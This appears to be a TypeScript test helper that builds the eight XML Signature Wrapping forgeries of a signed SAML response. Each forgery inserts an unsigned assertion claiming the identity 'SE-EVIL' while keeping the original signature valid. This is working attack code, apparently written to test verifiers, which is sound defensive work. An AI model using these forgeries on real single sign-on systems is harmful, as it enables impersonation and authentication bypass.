import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** A signed response made into what an attacker would send: a document in, a document out. */
export type Forgery = (xml: string) => string;

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

/** The eight ways of wrapping a signature (Somorovsky et al., “On Breaking SAML”, 2012), each with another's HSA id in what is not signed. */
export const wrappings: Readonly<Record<string, Forgery>> = {
  'XSW1: an evil response, the real one inside its signature': wrap(({ document, response }) => {
    const real = response.cloneNode(true) as Element;
    without(real, signatureOf(real));
    const signature = need(signatureOf(response));
    evil(response);
    signature.appendChild(real);
    return document;
  }),
  'XSW2: an evil response, the real one before its signature': wrap(({ document, response }) => {
    const real = response.cloneNode(true) as Element;
    without(real, signatureOf(real));
    const signature = need(signatureOf(response));
    evil(response);
    response.insertBefore(real, signature);
    return document;
  }),
  'XSW3: an evil assertion before the real one': wrap(({ document, response, assertion }) => {
    const forged = assertion.cloneNode(true) as Element;
    without(forged, signatureOf(forged));
    response.insertBefore(evil(forged), assertion);
    return document;
  }),
  'XSW4: an evil assertion around the real one': wrap(({ document, response, assertion }) => {
    const forged = assertion.cloneNode(true) as Element;
    without(forged, signatureOf(forged));
    response.replaceChild(evil(forged), assertion);
    forged.appendChild(assertion);
    return document;
  }),
  'XSW5: the signature moved to an evil assertion, the real one last': wrap(({ document, response, assertion }) => {
    const real = assertion.cloneNode(true) as Element;
    without(real, signatureOf(real));
    evil(assertion);
    response.appendChild(real);
    return document;
  }),
  'XSW6: the signature moved to an evil assertion, the real one inside it': wrap(({ document, assertion }) => {
    const real = assertion.cloneNode(true) as Element;
    without(real, signatureOf(real));
    const signature = need(signatureOf(assertion));
    evil(assertion);
    signature.appendChild(real);
    return document;
  }),
  'XSW7: an evil assertion among the extensions': wrap(({ document, response, assertion }) => {
    const forged = assertion.cloneNode(true) as Element;
    without(forged, signatureOf(forged));
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil(forged, false));
    response.insertBefore(extensions, assertion);
    return document;
  }),
  'XSW8: an evil assertion, the real one in an object of its signature': wrap(({ document, assertion }) => {
    const real = assertion.cloneNode(true) as Element;
    without(real, signatureOf(real));
    const signature = need(signatureOf(assertion));
    evil(assertion);
    const object = document.createElementNS(SIGNATURE, 'ds:Object');
    object.appendChild(real);
    signature.appendChild(object);
    return document;
  }),
};

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

function wrap(change: (parts: Parts) => Document): Forgery {
  return (xml) => {
    const document = new DOMParser().parseFromString(xml, 'text/xml');
    const response = document.documentElement;
    const [assertion] = Array.from(response.getElementsByTagNameNS(SAML, 'Assertion'));
    return new XMLSerializer().serializeToString(change({ document, response, assertion: need(assertion) }));
  };
}

/** Says that it is somebody else, under an identifier of its own unless the real one is to be kept. */
function evil(element: Element, withOwnId = true): Element {
  if (withOwnId) element.setAttribute('ID', '_evil');
  for (const value of Array.from(element.getElementsByTagNameNS(SAML, 'AttributeValue')))
    if ((value.textContent ?? '').startsWith('SE')) value.textContent = 'SE-EVIL';
  return element;
}

const signatureOf = (element: Element): Element | undefined =>
  Array.from(element.childNodes).find((node): node is Element => (node as Element).localName === 'Signature');

function without(element: Element, child: Element | undefined): void {
  if (child) element.removeChild(child);
}

function need<T>(found: T | undefined): T {
  if (found === undefined) throw new Error('The response has not what the forgery needs.');
  return found;
}
